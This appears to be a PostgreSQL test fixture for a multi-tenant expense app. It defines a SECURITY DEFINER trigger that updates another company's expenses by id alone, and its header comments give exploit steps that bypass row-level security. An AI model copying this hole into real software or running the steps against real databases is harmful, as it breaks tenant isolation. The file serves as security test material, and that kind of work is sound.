-- The trigger sets aside the expense that the new row names, by its number alone and with its owner's
-- rights, in any company's report.
-- about: sum_report, reports, move_expense, expense_moves
-- as: hf_outlay_app
-- exploit: SET outlay.company_id = '1';
-- exploit: INSERT INTO exp.expense_moves VALUES (1, 93, 1);
-- exploit: SET outlay.company_id = '2';
-- exploit: SELECT id, cents, merchant FROM exp.expenses WHERE id = 93 AND cents = 1;
-- shows: Road-secret merchant
-- An expense is taken out of its report and set to a token amount until it is filed again.
CREATE TABLE exp.expense_moves (
  company_id bigint NOT NULL REFERENCES exp.companies,
  expense_id bigint NOT NULL,
  new_cents integer NOT NULL
);
ALTER TABLE exp.expense_moves ENABLE ROW LEVEL SECURITY;
ALTER TABLE exp.expense_moves FORCE ROW LEVEL SECURITY;
CREATE POLICY company ON exp.expense_moves USING (company_id = exp.current_company());
GRANT SELECT, INSERT ON exp.expense_moves TO hf_outlay_app;
CREATE FUNCTION exp.move_expense() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE exp.expenses SET cents = NEW.new_cents WHERE id = NEW.expense_id;
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION exp.move_expense() FROM PUBLIC;
CREATE TRIGGER expense_moves_apply AFTER INSERT ON exp.expense_moves
  FOR EACH ROW EXECUTE FUNCTION exp.move_expense();
